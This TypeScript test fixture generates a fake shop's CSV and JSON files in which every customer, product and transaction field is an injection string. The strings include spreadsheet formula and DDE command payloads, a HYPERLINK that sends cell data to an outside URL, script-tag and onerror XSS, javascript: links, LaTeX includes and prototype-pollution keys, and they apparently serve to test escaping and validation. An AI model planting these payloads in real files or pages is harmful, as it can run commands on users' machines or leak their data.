import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";

/** Texts that mean something to a spreadsheet, a browser, LaTeX, Markdown or a CSV reader. */
export const hostileTexts: readonly string[] = [
  '=HYPERLINK("http://example.com/?"&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1,2)",
  "<script>window.__pwned = 'name'</script>",
  "</script><script>window.__pwned = 'end'</script>",
  `<img src="x" onerror="window.__pwned = 'image'">`,
  "<!-- <b>bold</b> &amp; &lt;i&gt;",
  "a,b",
  'say "hi"',
  "$x_1$ and $$\\frac{1}{2}$$",
  "\\textbf{x} \\input{y} 100% #1 ~^",
  "cell | cell\\|",
  "two\nlines",
  "# heading *star* _under_ `code` [a](javascript:window.__pwned=1)",
  "__proto__",
  "constructor",
  "Żółć 東京 🙂 \u202etxt",
];

const field = (text: string) => (/[",\r\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text);
const csv = (lines: readonly (readonly (string | number)[])[]) =>
  `${lines.map((line) => line.map((value) => field(String(value))).join(",")).join("\n")}\n`;

/** Ids of the hostile customers: each text once as it stands, then numbered. */
export const hostileIds: readonly string[] = Array.from({ length: 5 * hostileTexts.length }, (_, i) => {
  const text = hostileTexts[i % hostileTexts.length];
  return i < hostileTexts.length ? text : `${text} ${Math.floor(i / hostileTexts.length)}`;
});

/**
 * Writes a shop in which every text a user may give is hostile: ids, names, regions, categories, products. One line of the
 * transactions is wrong, so that a hostile record is rejected.
 */
export function writeHostileShop(folder: string): void {
  const text = (i: number) => hostileTexts[i % hostileTexts.length];
  const products = hostileTexts.map((name, i) => [`=P${i}`, name, text(i % 5), (i + 1) * 1.5]);
  const customers = hostileIds.map((id, i) => [id, text(i), text(4 + (i % 3)), "2023-01-01"]);
  const transactions = hostileIds.flatMap((id, i) =>
    Array.from({ length: 2 + (i % 7) }, (_, j) => {
      const product = (i * 3 + j * (1 + (i % 2))) % products.length;
      const quantity = 1 + ((i + j) % (1 + (i % 4)));
      const price = Number(products[product][3]);
      const day = `2023-${String(1 + ((i * 5 + j * 2) % 12)).padStart(2, "0")}-${String(1 + ((i + 3 * j) % 28)).padStart(2, "0")}`;
      return [`@T${i}-${j}`, id, `=P${product}`, `${day} 10:00:00`, quantity, quantity * price, price];
    }),
  );
  mkdirSync(folder, { recursive: true });
  const write = (name: string, lines: readonly (readonly (string | number)[])[]) =>
    writeFileSync(join(folder, name), csv(lines));
  write("Customers.csv", [["CustomerID", "CustomerName", "Region", "SignupDate"], ...customers]);
  write("Products.csv", [["ProductID", "ProductName", "Category", "Price"], ...products]);
  write("Transactions.csv", [
    ["TransactionID", "CustomerID", "ProductID", "TransactionDate", "Quantity", "TotalValue", "Price"],
    ...transactions,
    ['=cmd("bad")', "-nobody", "=P1", "2023-05-05 10:00:00", 1, 3, 3],
  ]);
  writeFileSync(join(folder, "dataset.json"), JSON.stringify({ name: hostileTexts[4], currency: "EUR" }));
}
